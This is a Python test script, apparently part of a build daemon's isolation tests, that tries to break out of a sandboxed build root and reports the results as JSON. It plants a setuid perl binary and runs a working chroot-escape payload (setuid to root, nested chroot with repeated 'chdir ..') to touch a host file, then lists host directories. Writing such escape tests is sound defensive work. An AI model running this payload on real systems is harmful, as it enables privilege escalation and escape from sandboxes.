"""A program that tries to get out of a build; run by test_isolation.py as the unprivileged account.

`python3 shut_in.py DIRECTORY TARBALL` prints a JSON object: what was tried, and what came of it.
"""

import hashlib
import json
import sys
import time
from pathlib import Path
from typing import Any

from twisted.internet.defer import CancelledError, Deferred
from twisted.internet.task import deferLater, react

from buildd.buildlog import BuildLog
from buildd.isolation.namespaces import ENVIRONMENT, NAMESPACE
from buildd.isolation.unshare import UnshareIsolation
from buildd.process import Children
from buildd.protocol import parse_sha1

# A setuid copy of perl in the root, as a build-dependency's maintainer script could make it; and what it does then.
PLANT = "cp /usr/bin/perl /usr/bin/esc && chmod 4755 /usr/bin/esc"
ESCAPE = """
use POSIX; $< = $>; POSIX::setuid(0);
mkdir "/tmp/x"; chroot "/tmp/x"; chdir ".." for 1..50; chroot ".";
%ENV = (PATH => "/usr/sbin:/usr/bin:/sbin:/bin");
system("id -u; ls /; touch VICTIM && echo escaped");
"""


async def main(reactor: Any, directory: str, tarball: str) -> None:
    """Try each, and print what came of it."""
    place = Path(directory)
    (place / "builds" / "one").mkdir(parents=True)
    isolation = UnshareIsolation(place, reactor)
    await isolation.recover()
    log = BuildLog(place / "log", 1 << 20)
    children = Children(reactor, log, 300, 300)
    sha1 = parse_sha1(hashlib.sha1(tarball.encode()).hexdigest())
    base = await isolation.unpack(Path(tarball), sha1, children)
    root = isolation.open([base], place / "builds" / "one" / "root-1", children)

    async def said(*argv: str, beside: bool = False) -> str:
        kept = bytearray()
        before = log.size
        if beside:
            await root.run_beside(argv, env={}, cwd=Path("/"), visible=[])
            return log.tail(log.size - before).decode() if log.size > before else ""
        await root.run(argv, network=False, output=kept.extend)
        return kept.decode()

    found = {"inside": await said("sh", "-c", "ls -A /mnt; ls -d /proc/[0-9]*; id -u; cat /proc/net/dev | wc -l")}
    await said("sh", "-c", PLANT)
    victim = place / "layers" / "owned"
    escape = ["/usr/bin/esc", "-e", ESCAPE.replace("VICTIM", str(victim))]
    found["beside"] = await said("chroot", "--userspec=65534:65534", str(root.path), *escape, beside=True)
    found["owned"] = str(victim.exists())
    found["host"] = await said("sh", "-c", f"ls / ; ls {place} {place}/layers; ls /home /root /srv", beside=True)
    found["lost kills"] = str(await _lost_kills(reactor, children))
    await isolation.remove(place / "builds" / "one")
    found["left"] = " ".join(path.name for path in (place / "builds").iterdir())
    log.close()
    print(json.dumps(found))


async def _lost_kills(reactor: Any, children: Children) -> int:
    """How many commands live on that were cancelled in their first milliseconds."""
    lost = 0
    for number in range(60):
        began = time.monotonic()
        running = Deferred.fromCoroutine(children.run([*NAMESPACE, "sleep", "3"], env=ENVIRONMENT, cwd=Path("/")))
        await deferLater(reactor, number * 0.0004, lambda: None)
        running.cancel()
        try:
            await running
        except CancelledError:
            lost += time.monotonic() - began > 2
    return lost


if __name__ == "__main__":
    react(lambda reactor, *arguments: Deferred.fromCoroutine(main(reactor, *arguments)), sys.argv[1:])
